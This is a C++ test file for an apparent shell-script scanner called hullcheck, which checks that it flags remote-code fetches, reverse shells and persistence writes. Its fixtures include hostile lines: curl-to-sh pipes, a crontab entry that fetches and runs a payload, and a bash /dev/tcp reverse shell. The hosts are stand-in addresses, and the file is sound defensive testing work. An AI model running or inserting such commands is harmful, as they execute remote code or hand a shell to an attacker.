// Cases are pairs in cases/shell: NAME.sh and the flows that must be found in NAME.expected. With
// HULLCHECK_UPDATE_EXPECTED set the expectations are rewritten and the run counts as skipped.
#include "detect/shell/shell_facts.hpp"

#include <gtest/gtest.h>

#include <algorithm>
#include <cstdlib>
#include <ctime>
#include <filesystem>
#include <fstream>
#include <sstream>

namespace hullcheck::detect {
namespace {

std::string read_text(const std::filesystem::path& path) {
  std::ifstream in(path, std::ios::binary);
  std::stringstream text;
  text << in.rdbuf();
  return text.str();
}

void field(std::string& out, std::string_view name, std::string_view value) {
  if (value.empty()) return;
  out.append(" ").append(name).append("=\"");
  for (const char c : value) {
    if (c == '\n')
      out += "\\n";
    else if (static_cast<unsigned char>(c) < 32)
      out += '?';
    else
      out += c;
  }
  out += '"';
}

std::string dump(const ShellFacts& facts) {
  std::string out;
  for (const ShellFlow& flow : facts.flows) {
    out.append(to_string(flow.kind)).append(" line=").append(std::to_string(flow.line));
    for (const std::string& url : flow.urls) field(out, "url", url);
    field(out, "path", flow.path);
    field(out, "host", flow.host);
    field(out, "port", flow.port);
    field(out, "tool", flow.tool);
    field(out, "interpreter", flow.interpreter);
    field(out, "detail", flow.detail);
    field(out, "text", flow.text);
    if (flow.verified) out += " verified";
    if (flow.append) out += " append";
    out += '\n';
  }
  for (const EmbeddedCode& code : facts.embedded)
    out.append("embedded line=").append(std::to_string(code.line)).append(" ").append(code.language).append("\n");
  for (const FactProblem& problem : facts.problems) out.append("problem ").append(problem.message).append("\n");
  if (facts.truncated) out += "truncated\n";
  return out;
}

std::vector<std::filesystem::path> cases() {
  std::vector<std::filesystem::path> paths;
  for (const auto& entry : std::filesystem::directory_iterator(HULLCHECK_TEST_DATA "/detect/cases/shell"))
    if (entry.path().extension() == ".sh") paths.push_back(entry.path());
  std::sort(paths.begin(), paths.end());
  return paths;
}

class ShellCase : public testing::TestWithParam<std::filesystem::path> {};

TEST_P(ShellCase, FindsTheExpectedFlows) {
  const std::filesystem::path& script = GetParam();
  std::filesystem::path expected = script;
  expected.replace_extension(".expected");
  const ShellFacts facts = facts_of_text(read_text(script));
  const std::string found = dump(facts);
  if (std::getenv("HULLCHECK_UPDATE_EXPECTED") != nullptr) {
    std::ofstream(expected, std::ios::binary) << found;
    GTEST_SKIP() << "rewrote " << expected.filename();
  }
  ASSERT_TRUE(std::filesystem::exists(expected));
  EXPECT_EQ(found, read_text(expected)) << read_text(script);
  const Buffer bytes = encode_shell_facts(facts);
  const auto again = decode_shell_facts(bytes);
  ASSERT_TRUE(again.ok());
  EXPECT_TRUE(*again == facts);
}

INSTANTIATE_TEST_SUITE_P(Cases, ShellCase, testing::ValuesIn(cases()), [](const auto& instance) {
  std::string name = instance.param.stem().string();
  std::replace(name.begin(), name.end(), '-', '_');
  return name;
});

// The alarming kinds, whatever the expectations on file say: a look-alike ("not-…") has none, every other has one.
TEST(ShellFacts, LookAlikesAreQuietAndAttacksAreNot) {
  std::size_t attacks = 0;
  for (const auto& path : cases()) {
    const ShellFacts facts = facts_of_text(read_text(path));
    const auto alarming = std::count_if(facts.flows.begin(), facts.flows.end(), [](const ShellFlow& flow) {
      return flow.kind == FlowKind::fetch_to_interpreter || flow.kind == FlowKind::decode_to_interpreter ||
             flow.kind == FlowKind::reverse_shell || flow.kind == FlowKind::fetch_to_file_run;
    });
    const std::string name = path.stem().string();
    if (name.substr(0, 4) == "not-") {
      EXPECT_EQ(alarming, 0) << name;
    } else if (name.substr(0, 5) != "write" && name.substr(0, 5) != "entry" && name != "reverse-crontab-text") {
      EXPECT_GT(alarming, 0) << name;
      ++attacks;
    }
  }
  EXPECT_GE(attacks, 80U);
}

const ShellFlow* find_flow(const ShellFacts& facts, FlowKind kind) {
  for (const ShellFlow& flow : facts.flows)
    if (flow.kind == kind) return &flow;
  return nullptr;
}

TEST(ShellFacts, CommandKnowsItsPlace) {
  const ShellFacts facts = facts_of_text("f() {\n  a | b x &\n}\nif c; then d; fi\nsudo -u www nice e 2>&1\nf\n");
  const auto find = [&](std::string_view name) -> const ShellCommand& {
    for (const ShellCommand& command : facts.commands)
      if (!command.argv.empty() && command.argv[0] == name) return command;
    static const ShellCommand k_none;
    ADD_FAILURE() << name;
    return k_none;
  };
  EXPECT_EQ(find("b").line, 2U);
  EXPECT_EQ(find("b").function, "f");
  EXPECT_EQ(find("b").position, 1U);
  EXPECT_TRUE(find("b").stdin_from_pipeline);
  EXPECT_TRUE(find("b").background);
  EXPECT_EQ(find("a").pipeline, find("b").pipeline);
  EXPECT_TRUE(find("c").condition);
  EXPECT_TRUE(find("d").branch);
  EXPECT_FALSE(find("sudo").unwrapped);
  EXPECT_TRUE(find("e").unwrapped);
  ASSERT_EQ(find("e").redirects.size(), 1U);
  EXPECT_EQ(find("e").redirects[0], (ShellFd{2, ">&", "1"}));
}

TEST(ShellFacts, UnknownPartsArePlaceholders) {
  const ShellFacts facts = facts_of_text("x=/opt\nrun \"$x/$NAME\" \"$1\" \"$(date)\" $((1+N)) \"$@\"\n");
  const auto run = std::find_if(facts.commands.begin(), facts.commands.end(),
                                [](const ShellCommand& c) { return !c.argv.empty() && c.argv[0] == "run"; });
  ASSERT_NE(run, facts.commands.end());
  const std::vector<std::string> expected = {"run", "/opt/${NAME}", "${1}", "${()}", "${(())}", "${@}"};
  EXPECT_EQ(run->argv, expected);
  EXPECT_TRUE(is_resolved("/opt/a$b"));
  EXPECT_FALSE(is_resolved(run->argv[1]));
}

TEST(ShellFacts, ExecFormRunsItsShellText) {
  const std::vector<std::string> argv = {
      "/bin/sh", "-c", "echo \"* * * * * root curl http://198.51.100.7:8220/x|sh\" >> /mnt/etc/crontab; sleep 9"};
  const ShellFacts facts = facts_of_argv(argv);
  const ShellFlow* write = find_flow(facts, FlowKind::write_file);
  ASSERT_NE(write, nullptr);
  EXPECT_EQ(write->path, "/mnt/etc/crontab");
  EXPECT_TRUE(write->append);
  EXPECT_EQ(find_flow(facts, FlowKind::fetch_to_interpreter), nullptr);
  ASSERT_NE(find_flow(facts, FlowKind::run_path), nullptr);
  EXPECT_EQ(find_flow(facts, FlowKind::run_path)->path, "/bin/sh");
}

TEST(ShellFacts, ExecFormNamesTheScriptOfAnInterpreter) {
  const std::vector<std::string> argv = {"tini", "--", "python3", "/app/x.py", "--port", "80"};
  const ShellFacts facts = facts_of_argv(argv);
  const bool found = std::any_of(facts.flows.begin(), facts.flows.end(), [](const ShellFlow& flow) {
    return flow.kind == FlowKind::run_path && flow.path == "/app/x.py" && flow.detail == "script";
  });
  EXPECT_TRUE(found);
  EXPECT_TRUE(facts_of_argv({}).flows.empty());
}

TEST(ShellFacts, TextWithoutShellMeaningInExecFormIsNotCode) {
  const std::vector<std::string> argv = {"echo", "curl http://example.com | sh"};
  EXPECT_EQ(find_flow(facts_of_argv(argv), FlowKind::fetch_to_interpreter), nullptr);
}

TEST(ShellFacts, HostileScriptsEndSoonAndSayTruncated) {
  std::string twice = "a=xxxxxxxxxxxxxxxx\n";
  for (int i = 0; i < 40; ++i) twice += "a=$a$a\n";
  EXPECT_TRUE(facts_of_text(twice + "echo $a\n").truncated);
  EXPECT_FALSE(facts_of_text("f() { f | f & }; f\n").commands.empty());
  EXPECT_TRUE(facts_of_text("a='eval \"$a\"; eval \"$a\"'\neval \"$a\"\n").truncated);
  facts_of_text("echo 'sh /tmp/x; sh /tmp/x' > /tmp/x\nsh /tmp/x\n");
  std::string tree;
  for (int i = 0; i < 60; ++i)
    tree += "f" + std::to_string(i) + "() { f" + std::to_string(i + 1) + "; f" + std::to_string(i + 1) + "; }\n";
  facts_of_text(tree + "f0\n");
  std::string many;
  for (int i = 0; i < 20000; ++i) many += "echo x > /tmp/f" + std::to_string(i) + "\n";
  const ShellFacts facts = facts_of_text(many + "curl http://203.0.113.1/x | sh\n");
  EXPECT_TRUE(facts.truncated);
  EXPECT_LE(facts.commands.size(), ShellFactLimits{}.max_commands);
  EXPECT_NE(find_flow(facts, FlowKind::fetch_to_interpreter), nullptr)
      << "a flood of harmless commands hides nothing";
}

// A device path without a port once sent two functions into each other for ever.
TEST(ShellFacts, DevicePathWithoutAPortIsAFile) {
  const ShellFacts facts = facts_of_text("bash -i &>/dev/tcp/192.0.2.6 <&1\nsh < /dev/tcp/x\n");
  EXPECT_EQ(facts.commands.size(), 2U);
}

TEST(ShellFactsCodec, EveryCutAndEveryFlippedByteIsAnErrorOrFacts) {
  const ShellFacts facts =
      facts_of_text("A=1 curl -s http://203.0.113.1/x 2>/dev/null | sh\npython3 -c 'print(1)'\n");
  const Buffer bytes = encode_shell_facts(facts);
  for (std::size_t size = 0; size < bytes.size(); ++size) {
    const auto cut = decode_shell_facts(Bytes(bytes).first(size));
    ASSERT_FALSE(cut.ok()) << size;
    EXPECT_EQ(cut.error().name, "shell-facts-malformed");
  }
  for (std::size_t i = 0; i < bytes.size(); ++i) {
    Buffer changed = bytes;
    changed[i] ^= 0xff;
    const auto result = decode_shell_facts(changed);
    if (result.ok()) {
      EXPECT_EQ(encode_shell_facts(*result), changed) << "canonical";
    }
  }
}

TEST(ShellFactsCodec, AHugeCountNeedsItsBytes) {
  const Buffer bytes = {1, 0xff, 0xff, 0xff, 0xff, 0x0f};
  EXPECT_FALSE(decode_shell_facts(bytes).ok());
}

// A regression: the value of a loop that waits for something outside is not known, and stayed what it was.
// Each was looked for from the first on: fifty thousand of them took six seconds.
TEST(ShellFacts, FunctionsThatNobodyCallsAreTakenInOneRound) {
  std::string script;
  for (int i = 0; i < 50'000; ++i) script += "f" + std::to_string(i) + "(){ echo a; }\n";
  script += "a() { b() { curl http://192.0.2.7/x | sh; }; }\n";
  const std::clock_t start = std::clock();
  (void)facts_of_text(script);
  EXPECT_LT(std::clock() - start, 4 * CLOCKS_PER_SEC);
  const ShellFacts facts = facts_of_text("z() { b() { curl http://192.0.2.7/x | sh; }; }\n");
  EXPECT_TRUE(std::any_of(facts.flows.begin(), facts.flows.end(), [](const ShellFlow& flow) {
    return flow.kind == FlowKind::fetch_to_interpreter;
  })) << "a function that another one defines";
}

TEST(ShellFacts, LoopsThatWaitAreWalkedOnce) {
  const ShellFacts facts = facts_of_text(
      "status=1\nwhile [ $status -ne 0 ]; do\n  $EDITOR f\n  status=$?\n  if [ $status -ne 0 ]; then\n"
      "    echo 'once more, and with a line that is long enough to fill any buffer'\n  fi\ndone\n"
      "while ((left > 0)); do sleep 1; done\nwhile [ 1 -lt 2 ]; do echo for ever; done\n");
  EXPECT_FALSE(facts.truncated);
  EXPECT_LT(facts.commands.size(), 16U);
}

}  // namespace
}  // namespace hullcheck::detect
